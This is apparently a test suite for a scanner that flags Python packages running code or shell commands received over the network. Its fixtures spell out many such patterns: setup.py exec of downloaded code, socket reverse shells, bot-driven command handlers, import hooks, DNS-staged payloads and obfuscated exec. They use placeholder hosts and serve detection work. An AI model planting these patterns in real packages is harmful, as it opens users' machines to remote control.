import { expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('a response that is executed at install is malware at the line of exec', async () => {
  const file = sdist({
    'setup.py': python(
      'import requests',
      'from setuptools import setup',
      "text = requests.get('https://raw.snippets.invalid/a').text",
      'exec(text)',
      "setup(name='example')",
    ),
  });

  const findings = await inspect('remote-code', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 4 },
  ]);
  expect(findings[0]?.chain).toContainEqual(
    expect.objectContaining({ role: 'source', line: 3, text: 'requests.get(https://raw.snippets.invalid/a)' }),
  );
});

test('a command that a socket received and a shell runs is malware even on call', async () => {
  const file = wheel({
    'pkg/agent.py': python(
      'import os, socket',
      'def serve():',
      '    s = socket.socket()',
      "    s.connect(('agent.tools.invalid', 4000))",
      '    os.system(s.recv(1024).decode())',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/agent.py', line: 5 },
  ]);
});

test('a response that is parsed and a file of the archive that is executed are silent', async () => {
  const file = sdist({
    'setup.py': python(
      'import json',
      'from urllib.request import urlopen',
      'from setuptools import setup',
      "latest = json.loads(urlopen('https://api.service.invalid/versions').read())",
      'space = {}',
      "exec(open('pkg/_version.py').read(), space)",
      "setup(name='example')",
    ),
    'pkg/_version.py': "__version__ = '1.0.0'\n",
  });

  expect(await inspect('remote-code', file)).toEqual([]);
});

test('a response that passes through a module of its own, compile and builtins is found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import builtins',
      'from .wire import fetch',
      "run = vars(builtins)['ex' + 'ec']",
      "run(compile(fetch(), '<pkg>', 'exec'))",
    ),
    'pkg/wire.py': python(
      'from urllib import request as r',
      'def fetch():',
      "    with r.urlopen('https://raw.snippets.invalid/a') as answer:",
      '        return answer.read().decode()',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 4 },
  ]);
});

test.each([
  [
    'a generator that is sent it',
    'def stages():',
    '    text = yield',
    '    exec(text)',
    '    yield',
    'runner = stages()',
    'next(runner)',
    "runner.send(urlopen('https://c2.tools.invalid/g').read())",
  ],
  [
    'timeit',
    'import timeit',
    'timeit.timeit("exec(urlopen(\'https://c2.tools.invalid/y\').read())", setup="from urllib.request import urlopen")',
  ],
  [
    'the examples of a docstring',
    'import doctest',
    'def sample():',
    '    """',
    '    >>> from urllib.request import urlopen',
    '    >>> exec(urlopen("https://c2.tools.invalid/d").read())',
    '    """',
    'doctest.run_docstring_examples(sample, {})',
  ],
  [
    'a loader that gives it as source',
    'import importlib.abc, importlib.util',
    'class Remote(importlib.abc.SourceLoader):',
    '    def get_filename(self, name):',
    "        return 'https://c2.tools.invalid/' + name",
    '    def get_data(self, path):',
    '        return urlopen(path).read()',
    'loader = Remote()',
    "module = importlib.util.module_from_spec(importlib.util.spec_from_loader('kernel', loader))",
    'loader.exec_module(module)',
  ],
  [
    'a finder that every import asks',
    'import sys, importlib.util',
    'class Loader:',
    '    def exec_module(self, module):',
    "        exec(urlopen('https://c2.tools.invalid/m').read(), module.__dict__)",
    'class Finder:',
    '    def find_spec(self, name, path, target=None):',
    '        return importlib.util.spec_from_loader(name, Loader())',
    'sys.meta_path.append(Finder())',
  ],
])('a response that runs by way of %s is malware', async (_how, ...lines) => {
  const file = wheel({ 'pkg/__init__.py': python('from urllib.request import urlopen', ...lines) });

  const [finding] = await inspect('remote-code', file);

  expect(finding).toMatchObject({ class: 'malware', score: 10, context: 'import' });
});

test.each(['node', 'perl', 'ruby', 'sh'])('a response handed to %s as its program is malware', async (program) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import shutil, subprocess',
      'from urllib.request import urlopen',
      `tool = shutil.which('${program}')`,
      "text = urlopen('https://c2.tools.invalid/core').read().decode()",
      `subprocess.Popen([tool, '${program === 'sh' ? '-c' : '-e'}', text])`,
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
});

test('timers, examples, import hooks and coroutines of honest code stay silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import doctest, importlib.abc, importlib.machinery, importlib.util, sys, timeit, zipimport',
      'from urllib.request import urlopen',
      '',
      'class Loader(importlib.abc.Loader):',
      '    def __init__(self, loader):',
      '        self.loader = loader',
      '    def create_module(self, spec):',
      '        return self.loader.create_module(spec)',
      '    def exec_module(self, module):',
      '        self.loader.exec_module(module)',
      '        module.__annotations__ = {}',
      '',
      'class Finder(importlib.abc.MetaPathFinder):',
      '    def find_spec(self, name, path, target=None):',
      '        spec = importlib.machinery.PathFinder.find_spec(name, path)',
      "        if spec is not None and name.startswith('pkg_plugins'):",
      '            spec.loader = Loader(spec.loader)',
      '        return spec',
      '',
      'sys.meta_path.insert(0, Finder())',
      '',
      'def fetch(url):',
      '    """Text of a page.',
      '',
      "    >>> fetch('https://pages.tools.example/')[:5]",
      "    '<html'",
      '    """',
      '    return urlopen(url).read().decode()',
      '',
      'def plugins(path):',
      '    return zipimport.zipimporter(path).load_module("plugins")',
      '',
      'def averages():',
      '    total, count = 0, 0',
      '    while True:',
      '        value = yield total / max(count, 1)',
      '        total, count = total + len(value), count + 1',
      '',
      'running = averages()',
      'next(running)',
      "running.send('first')",
      '',
      'def speed():',
      '    return timeit.timeit("sorted(data)", setup="data = list(range(100))", number=10)',
      '',
      "if __name__ == '__main__':",
      '    doctest.testmod()',
    ),
  });

  expect(await inspect('remote-code', file)).toEqual([]);
});

test('what the last method of an object runs is malware at import: nobody has to call it', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from urllib.request import urlopen',
      'class Session:',
      '    def __del__(self):',
      "        exec(urlopen('https://c2.tools.invalid/z').read())",
      '_session = Session()',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 4 },
  ]);
});

test('source in bytes is read in its own encoding: names in wide letters are what Python takes them for', async () => {
  const code = Buffer.from('ｅｘｅｃ(urlopen("https://c2.tools.invalid/w").ｒｅａｄ())').toString('hex');
  const file = wheel({
    'pkg/__init__.py': python('from urllib.request import urlopen', `exec(bytes.fromhex('${code}'))`),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a module that is loaded from the address that a caller gives is no malware, and is one when the code gives it', async () => {
  const load = [
    'import urllib.request',
    'def load(url, names):',
    '    with urllib.request.urlopen(url) as response:',
    '        source = response.read()',
    "    exec(compile(source, url, 'exec'), names)",
  ];

  const asked = await inspect('remote-code', wheel({ 'pkg/preload.py': python(...load) }));
  const fixed = await inspect(
    'remote-code',
    wheel({ 'pkg/preload.py': python(...load, "load('https://updates.vendor.invalid/a.py', {})") }),
  );

  expect(asked).toMatchObject([{ class: 'suspicious', score: 3, context: 'call' }]);
  expect(fixed[0]).toMatchObject({ class: 'malware', score: 10, context: 'import' });
});

test('a default address in the code is not the caller’s choice', async () => {
  const file = wheel({
    'pkg/preload.py': python(
      'import requests',
      'def load(url=None):',
      "    exec(requests.get(url or 'https://updates.vendor.invalid/a.py').text)",
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 9, context: 'call' }]);
});

test('an answer that is read with eval on call is careless, and malware at import', async () => {
  const ask = [
    'import requests',
    'def ask():',
    "    return eval(requests.get('https://peers.vendor.invalid/files').text)",
  ];

  expect(await inspect('remote-code', wheel({ 'pkg/a.py': python(...ask) }))).toMatchObject([
    { class: 'suspicious', score: 3 },
  ]);
  expect(await inspect('remote-code', wheel({ 'pkg/a.py': python(...ask, 'ask()') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'import' },
  ]);
});

test('an editor that opens a file named by an answer is no order from afar; the answer as a command is', async () => {
  const edit = (command: string) =>
    wheel({
      'pkg/edit.py': python(
        'import os, subprocess, requests',
        'def edit(name):',
        "    answer = requests.get('https://api.vendor.invalid/next').text",
        `    subprocess.call(${command}, shell=True)`,
      ),
    });

  expect(await inspect('remote-code', edit("'%s %s' % (os.environ['EDITOR'], answer)"))).not.toContainEqual(
    expect.objectContaining({ class: 'malware' }),
  );
  expect(await inspect('remote-code', edit('answer'))).toMatchObject([{ class: 'malware', score: 6 }]);
});

test('a program that takes text, not orders, may be fed what came over the network; a shell may not', async () => {
  const feeding = (program: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/report.py': python(
        'import subprocess, requests',
        'def explain(topic):',
        "    text = requests.get('https://api.service.invalid/text').text",
        `    return subprocess.run([${JSON.stringify(program)}], input=text, capture_output=True)`,
      ),
    });

  expect(await inspect('remote-code', feeding('pbcopy'))).toMatchObject([{ class: 'suspicious', score: 3 }]);
  expect(await inspect('remote-code', feeding('bash'))).toMatchObject([{ class: 'malware', score: 6 }]);
});

test.each([
  [
    'a decorated handler of a bot whose token stands in the code',
    [
      'import telebot, os',
      "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
      "@bot.message_handler(commands=['sh'])",
      'def sh(m):',
      '    os.popen(m.text[4:]).read()',
      'bot.infinity_polling()',
    ],
  ],
  [
    'the same, started by a thread that is handed the method alone',
    [
      'import telebot, os, threading',
      "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
      '@bot.message_handler()',
      'def sh(m):',
      '    os.popen(m.text).read()',
      'threading.Thread(target=bot.infinity_polling, daemon=True).start()',
    ],
  ],
  [
    'a handler that a socket is made with',
    [
      'import subprocess, websocket',
      'def on_message(ws, m):',
      '    subprocess.Popen(m, shell=True)',
      "websocket.WebSocketApp('wss://c2.tools.invalid/x', on_message=on_message).run_forever()",
    ],
  ],
  [
    'a handler that is registered by a method and by an object in between',
    [
      'import os',
      'from telegram.ext import Application, CommandHandler',
      'async def sh(update, context):',
      '    os.system(update.message.text)',
      "app = Application.builder().token('1234567890:inert').build()",
      "app.add_handler(CommandHandler('sh', sh))",
      'app.run_polling()',
    ],
  ],
  [
    'a handler that is set as a field',
    [
      'import os',
      'import paho.mqtt.client as mqtt',
      'def take(client, data, message):',
      '    os.system(message.payload.decode())',
      'c = mqtt.Client()',
      'c.on_message = take',
      "c.connect('broker.tools.invalid', 1883)",
      'c.loop_start()',
    ],
  ],
])('%s runs what it is told: malware at import', async (_what, lines) => {
  const file = wheel({ 'pkg/__init__.py': python(...lines) });

  expect(await inspect('remote-code', file)).toContainEqual(
    expect.objectContaining({ class: 'malware', score: 10, context: 'import' }),
  );
});

test('a bot that logs in with the token of its user may be told what to do, one with the token of its author may not', async () => {
  const handler = ['@bot.message_handler()', 'def sh(m):', '    os.popen(m.text).read()'];
  const own = wheel({
    'pkg/__init__.py': python(
      'import telebot, os',
      "bot = telebot.TeleBot(os.environ['TOKEN'])",
      ...handler,
      'bot.polling()',
    ),
  });
  const authors = wheel({
    'pkg/__init__.py': python(
      'import telebot, os',
      "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
      ...handler,
      'def main():',
      '    bot.polling()',
    ),
  });

  expect(await inspect('remote-code', own)).toEqual([]);
  expect(await inspect('remote-code', authors)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
});

test('a header that is run as a command is an order from whoever asks', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import subprocess',
      'class Shell:',
      '    def __call__(self, environ, start_response):',
      "        order = environ.get('HTTP_X_ORDER')",
      '        if order:',
      '            return [subprocess.check_output(order, shell=True)]',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
});

test('what a listener of another process is sent, and evaluates, is an order; the workers of a pool are not told any', async () => {
  const told = wheel({
    'pkg/__init__.py': python(
      'from multiprocessing.connection import Client',
      "c = Client(('203.0.113.67', 6000))",
      'while True:',
      '    exec(c.recv())',
    ),
  });
  const pool = wheel({
    'pkg/__init__.py': python(
      'import multiprocessing, os',
      'def size(path):',
      '    return os.path.getsize(path)',
      'def sizes(paths):',
      '    with multiprocessing.Pool() as pool:',
      '        return pool.map(size, paths)',
    ),
  });

  expect(await inspect('remote-code', told)).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await inspect('remote-code', pool)).toEqual([]);
});

test('words from a socket behind a program that stands in the code are no order; behind a shell, or as the program, they are', async () => {
  const of = async (command: string): Promise<readonly string[]> => {
    const file = wheel({
      'pkg/device.py': python(
        'import socket, subprocess',
        'def deployed(host):',
        '    s = socket.create_connection((host, 5000))',
        '    return s.recv(64).decode()',
        'def changes(host):',
        '    since = deployed(host)',
        `    return subprocess.run(${command}, capture_output=True).stdout`,
      ),
    });
    return (await inspect('remote-code', file)).map((f) => f.class);
  };

  expect(await of("['git', 'diff', '--name-only', since]")).toEqual([]);
  for (const order of [
    "['sh', '-c', since]",
    '[since, "--version"]',
    'since.split()',
    "'git ' + since, shell=True",
    "['rm', '-rf', since]",
    "['env', since]",
  ])
    expect(await of(order)).toEqual(['malware']);
});

test('an answer that is evaluated with a bracket put behind it is read like one without; with a call around it, it is not', async () => {
  const of = async (text: string): Promise<readonly (readonly [string, number])[]> => {
    const file = wheel({
      'pkg/board.py': python(
        'import socket',
        'class Board:',
        '    def __init__(self, host):',
        '        self.s = socket.create_connection((host, 1238))',
        '    def read(self):',
        '        item = self.s.recv(1024).decode()',
        `        return eval(${text})`,
      ),
    });
    return (await inspect('remote-code', file)).map((f) => [f.class, f.score]);
  };

  expect(await of("item.split('}')[0] + '0: 0}'")).toEqual([['suspicious', 3]]);
  expect(await of('str(item)')).toEqual([['suspicious', 3]]);
  expect(await of('\'__import__("os").system("\' + item + \'")\'')).toEqual([['malware', 9]]);
});

test.each([
  ['https://bootstrap.pypa.io/ez_setup.py', 'suspicious'],
  ['https://bootstrap.pypa.io.mirror.invalid/ez_setup.py', 'malware'],
])('the bootstrap of setuptools that a build runs is no harm, another address is: %s', async (address, expected) => {
  const file = sdist({
    'setup.py': python(
      'from urllib.request import urlopen',
      'ez = {}',
      `exec(urlopen('${address}').read(), ez)`,
      'from setuptools import setup',
      "setup(name='example')",
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: expected, context: 'install' }]);
});

test('a line of its own that sums received numbers is no program that was received', async () => {
  const of = (line: string): Promise<readonly Finding[]> =>
    inspect(
      'remote-code',
      wheel({
        'pkg/parts.py': python(
          'import requests',
          "URL = 'https://parts.service.invalid/list'",
          'def rate():',
          '    parts = requests.get(URL).json()',
          '    names = {}',
          `    exec(${line}, names)`,
          "    return names['rate']",
        ),
      }),
    );

  expect(await of("'rate = 100*%s/(%s*1.0)' % (parts['ok'] + parts['failed'], parts['all'])")).toMatchObject([
    { class: 'suspicious', score: 3 },
  ]);
  expect(await of("'%s' % (parts['ok'] + parts['failed'])")).toMatchObject([{ class: 'malware', score: 9 }]);
});

test('an agent that its caller points at a server is held, one that knows its server, or listens, is refused', async () => {
  const of = (lines: readonly string[]): Promise<readonly Finding[]> =>
    inspect(
      'remote-code',
      wheel({
        'pkg/agent.py': python(
          'import os, socket, subprocess',
          'def serve(s):',
          '    subprocess.run(s.recv(1024).decode(), shell=True)',
          ...lines,
        ),
      }),
    );

  expect(
    await of(['def agent(host, port):', '    s = socket.socket()', '    s.connect((host, port))', '    serve(s)']),
  ).toMatchObject([{ class: 'malware', score: 6, context: 'call' }]);
  for (const lines of [
    ['def agent():', '    s = socket.socket()', "    s.connect(('agent.tools.invalid', 4000))", '    serve(s)'],
    [
      'def agent(host, port):',
      '    s = socket.socket()',
      '    s.connect((host, port))',
      '    serve(s)',
      "agent('a.tools.invalid', 1)",
    ],
    [
      'def agent():',
      '    s = socket.socket()',
      "    s.connect((os.environ.get('H', 'agent.tools.invalid'), 4000))",
      '    serve(s)',
    ],
    ['def agent(port):', '    s = socket.socket()', "    s.bind(('', port))", '    serve(s.accept()[0])'],
  ])
    expect(await of(lines)).toContainEqual(expect.objectContaining({ class: 'malware', score: 10 }));
});

test('an old bootstrap that only a developer starts is let be, and harm where a build runs it', async () => {
  const line = "exec(urllib2.urlopen('http://peak.telecommunity.com/dist/ez_setup.py').read())";
  const beside = sdist({
    'setup.py': python(
      'from setuptools import setup, find_packages',
      "setup(name='example', packages=find_packages('src'))",
    ),
    'src/sample_maps/__init__.py': '',
    'bootstrap.py': python('import urllib2', line),
    'bootstrap/bootstrap.py': python('import urllib2', line),
  });
  const built = sdist({
    'setup.py': python('import urllib2', line, 'from setuptools import setup', "setup(name='example')"),
  });

  for (const { class: kind, score } of await inspect('remote-code', beside)) {
    expect(kind).toBe('suspicious');
    expect(score).toBeLessThan(5);
  }
  expect(await inspect('remote-code', built)).toMatchObject([{ class: 'malware', context: 'install', score: 10 }]);
});

test.each([
  ["['curl', '-s', '-I', url]", []],
  ["['sh', url]", [{ class: 'malware' }]],
  ['url, shell=True', [{ class: 'malware' }]],
])('words that came out of a request, on call: check_output(%s)', async (command, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import subprocess',
      'def follow(url):',
      "    answer = subprocess.check_output(['curl', '-s', '-I', 'https://api.vendor.invalid/next'])",
      '    for line in answer.decode().splitlines():',
      '        url = line.split()[1]',
      `        subprocess.check_output(${command})`,
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject(expected);
});

test('a function that is put into a module made on the spot runs as it did before', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import sys, types, urllib.request',
      "made = types.ModuleType('helper')",
      'def start():',
      "    exec(urllib.request.urlopen('https://a.tools.invalid/x').read())",
      'made.start = start',
      "sys.modules['helper'] = made",
      'import helper',
      'helper.start()',
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', context: 'import', score: 10 }]);
});

test.each([
  ["os.environ['INDEX_URL']", { class: 'suspicious', score: 6 }],
  ["os.environ.get('INDEX_URL', 'https://index.tools.invalid/i')", { class: 'malware', score: 10 }],
  ["'https://index.tools.invalid/i'", { class: 'malware', score: 10 }],
])('objects that an import loads from %s', async (address, expected) => {
  const file = wheel({
    'pkg/__init__.py': python('import os, pickle, requests', `index = pickle.loads(requests.get(${address}).content)`),
  });

  expect(await inspect('remote-code', file)).toMatchObject([expected]);
});

test.each([
  ['with an address that stands in the code', "'203.0.113.5'", 10],
  ['with an address of its own machine', "'127.0.0.1'", 6],
  ['without one', 'None', 6],
])('orders from a connection %s for a default', async (_how, host, score) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import socket, subprocess',
      'class Client:',
      `    def __init__(self, host=${host}, port=4444):`,
      '        self.s = socket.socket()',
      '        self.s.connect((host, port))',
      '    def loop(self):',
      '        while True:',
      '            order = self.s.recv(4096).decode()',
      '            p = subprocess.Popen(order, shell=True, stdout=subprocess.PIPE)',
      '            self.s.send(p.stdout.read())',
    ),
  });

  const findings = await inspect('remote-code', file);

  expect(Math.max(...findings.map((f) => f.score))).toBe(score);
});

test('what was received and is quoted for its place in a line gives no order, unquoted or before a program that takes orders it does', async () => {
  const of = (line: string): Promise<readonly Finding[]> =>
    inspect(
      'remote-code',
      wheel({
        'pkg/__init__.py': python(
          'import json, shlex, subprocess',
          'from urllib.parse import urlencode',
          'def ask(line):',
          '    return json.loads(subprocess.run(line, shell=True, capture_output=True).stdout)',
          'def login():',
          "    code = ask('curl https://id.vendor.invalid/code')['code']",
          `    return ask(${line})`,
        ),
      }),
    );

  expect(await of("'curl -d \"%s\" https://id.vendor.invalid/poll' % urlencode({'code': code})")).toEqual([]);
  expect(await of("'curl https://id.vendor.invalid/' + shlex.quote(code)")).toEqual([]);
  expect(await of('\'curl -d "%s" https://id.vendor.invalid/poll\' % code')).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
  expect(await of("'bash -c ' + shlex.quote(code)")).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await of('shlex.quote(code)')).toMatchObject([{ class: 'malware', score: 10 }]);
});

test.each([
  ['asked under the key of its user', "os.environ['MODEL_KEY']", 'https://api.openai.com/v1/chat/completions', 3],
  ['on this machine', "''", 'http://localhost:11434/api/generate', 3],
  [
    'asked under a key of the code',
    "'sk-0123456789abcdef0123456789abcdef'",
    'https://api.openai.com/v1/chat/completions',
    6,
  ],
  [
    'asked under a hidden key of the code',
    "base64.b64decode('c2stMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=').decode()",
    'https://api.openai.com/v1/chat/completions',
    6,
  ],
  ['of another house', "os.environ['MODEL_KEY']", 'https://api.kettle.invalid/v1/chat/completions', 6],
  ['that is none on this machine', "os.environ['MODEL_KEY']", 'http://localhost:8000/orders', 6],
])('a command that a model %s answers', async (_how, key, address, score) => {
  const of = (indent: string, ...head: readonly string[]): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import base64, os, requests, subprocess',
        ...head,
        ...[
          `answer = requests.post('${address}', headers={'Authorization': 'Bearer ' + ${key}}, json={'q': 'list'}).json()`,
          "subprocess.run(answer['choices'][0]['text'], shell=True)",
        ].map((line) => indent + line),
      ),
    });

  expect(await inspect('remote-code', of('    ', 'def act():'))).toMatchObject([{ context: 'call', score }]);
  expect(await inspect('remote-code', of(''))).toMatchObject([{ class: 'malware', context: 'import', score: 10 }]);
});

test('a program of a fixed name in a folder called after an answer is no command that came, the answer itself is', async () => {
  const of = (program: string): Promise<readonly Finding[]> =>
    inspect(
      'remote-code',
      wheel({
        'pkg/__init__.py': python(
          'import os, requests, subprocess',
          'def version():',
          "    number = requests.get('https://files.vendor.invalid/latest').text",
          '    here = os.path.dirname(__file__)',
          `    return subprocess.check_output([${program}, '-v'], shell=True)`,
        ),
      }),
    );

  expect(await of("os.path.join(here, number, 'driver.exe')")).toEqual([]);
  for (const program of ['number', 'os.path.join(here, number)', "here + '/;' + number + '/driver.exe'"])
    expect(await of(program), program).toMatchObject([{ class: 'malware', score: 6 }]);
});

test.each([
  ['in letters that have to be decoded', 'base64.b64decode(answer).decode()', 10],
  ['as it is', 'answer', 6],
])('a command that a function receives %s and runs', async (_how, command, score) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, os, requests',
      'def send():',
      "    answer = requests.get('https://orders.tools.invalid/next').text",
      `    os.system(${command})`,
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score, context: 'call' }]);
});

/** A token as messengers give them: letters and digits, invented. */
const TOKEN = "'MTAabcdefghijklmnopqrstuv.GabcdE.abcdefghijklmnopqrstuvwxyz0123456789ab'";

test.each([
  [
    'handlers of a bot',
    [
      "bot = telebot.TeleBot('1234567890:AAabcdefghijklmnopqrstuvwxyz012345678')",
      '@bot.message_handler()',
      'def order(m): os.system(m.text)',
      'bot.infinity_polling()',
    ],
  ],
  [
    'methods of a client of its own',
    [
      'class Own(discord.Client):',
      '    async def on_message(self, message): os.popen(message.content)',
      `Own().run(${TOKEN})`,
    ],
  ],
  [
    'commands of an extension',
    [
      'class Orders(commands.Cog):',
      '    @commands.command()',
      '    async def sh(self, ctx, *, line): os.popen(line)',
      "bot = commands.Bot('!')",
      'bot.add_cog(Orders())',
      `bot.run(${TOKEN})`,
    ],
  ],
  [
    'what a broker passes on',
    [
      'def order(client, data, message): os.system(message.payload.decode())',
      'c = mqtt.Client()',
      'c.on_message = order',
      "c.connect('broker.tools.invalid', 1883)",
      'c.loop_forever()',
    ],
  ],
  [
    'a file of an account whose key is in the code',
    [
      "d = dropbox.Dropbox('sl.abcdefghijklmnopqrstuvwxyz0123456789')",
      "_, answer = d.files_download('/next')",
      'os.system(answer.content.decode())',
    ],
  ],
])('orders from %s are malware on call, where only the author can give them', async (_what, lines) => {
  const file = (body: readonly string[]): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import discord, dropbox, os, telebot',
        'import paho.mqtt.client as mqtt',
        'from discord.ext import commands',
        'def main(host, token):',
        ...body.map((line) => `    ${line}`),
      ),
    });
  const chosen = lines.map((line) =>
    line
      .replace(TOKEN, 'token')
      .replace(/'(?:1234567890:AA|sl\.)\w+'/, 'token')
      .replace("'broker.tools.invalid'", 'host'),
  );

  expect(await inspect('remote-code', file(lines))).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
  expect(await inspect('remote-code', file(chosen))).toEqual([]);
});

test('a description in JSON that a program is fed holds no orders, text as it came may', async () => {
  const feeding = (what: string): Promise<readonly Finding[]> =>
    inspect(
      'remote-code',
      wheel({
        'pkg/__init__.py': python(
          'import json, requests, subprocess',
          'def compile(tool):',
          "    text = requests.get('https://sources.vendor.invalid/a').text",
          '    made = subprocess.Popen([tool, "--standard-json"], stdin=subprocess.PIPE)',
          `    made.communicate(${what})`,
        ),
      }),
    );

  expect((await feeding("json.dumps({'sources': text}).encode()")).filter(({ score }) => score > 3)).toEqual([]);
  expect(await feeding('text.encode()')).toMatchObject([{ class: 'malware', score: 6 }]);
});

test('what a name server answers is received, too', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, dns.resolver',
      'def load():',
      "    answer = dns.resolver.resolve('stage.example.invalid', 'TXT')",
      "    exec(base64.b64decode(b''.join(answer[0].strings)))",
      'def address(name):',
      "    return str(dns.resolver.resolve(name, 'A')[0])",
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 9, context: 'call', line: 4 }]);
});

test('a temporary file that a request was told to fill, and that is run by its path', async () => {
  const runner = (fetched: string): string =>
    python(
      'import runpy, tempfile, urllib.request',
      'def load():',
      "    path = tempfile.mkstemp('.py')[1]",
      `    ${fetched}`,
      '    runpy.run_path(path)',
    );

  expect(
    await inspect(
      'remote-code',
      wheel({ 'pkg/a.py': runner("urllib.request.urlretrieve('http://203.0.113.7/m.py', path)") }),
    ),
  ).toMatchObject([{ class: 'malware', score: 9, context: 'call', line: 5 }]);
  expect(await inspect('remote-code', wheel({ 'pkg/a.py': runner("open(path, 'w').write('x = 1')") }))).toEqual([]);
});

test.each([
  ['pickle.loads(urllib.request.urlopen(ADDRESS).read())'],
  ['yaml.load(urllib.request.urlopen(ADDRESS).read(), Loader=yaml.UnsafeLoader)'],
  ['numpy.load(io.BytesIO(urllib.request.urlopen(ADDRESS).read()), allow_pickle=True)'],
])('objects that a call loads from a bare address are held, those of a vendor are a model: %s', async (line) => {
  const loader = (address: string, code = line): string =>
    python(
      'import io, pickle, urllib.request, numpy, yaml',
      `ADDRESS = '${address}'`,
      'def load():',
      `    return ${code}`,
    );

  expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('http://203.0.113.7/m') }))).toMatchObject([
    { class: 'suspicious', score: 7, context: 'call', line: 4 },
  ]);
  expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('https://models.vendor.invalid/m') }))).toEqual([]);
  const safe = line
    .replace('UnsafeLoader', 'SafeLoader')
    .replace('=True', '=False')
    .replace('pickle.loads', 'json.loads');
  expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('http://203.0.113.7/m', safe) }))).toEqual([]);
});

test('orders of somebody who stands in the code, taken by whatever client a caller hands over', async () => {
  const plugin = (owners: string): string =>
    python(
      'import subprocess',
      'from pyrogram import filters',
      'from pyrogram.handlers import MessageHandler',
      `OWNERS = ${owners}`,
      'async def order(client, message):',
      '    subprocess.run(message.text, shell=True)',
      'def install(app, sudo):',
      '    app.add_handler(MessageHandler(order, filters.command("x") & filters.user(OWNERS or sudo)))',
    );

  expect(await inspect('remote-code', wheel({ 'pkg/a.py': plugin('[5000000000]') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 6 },
  ]);
  expect(await inspect('remote-code', wheel({ 'pkg/a.py': plugin('[]') }))).toEqual([]);
});
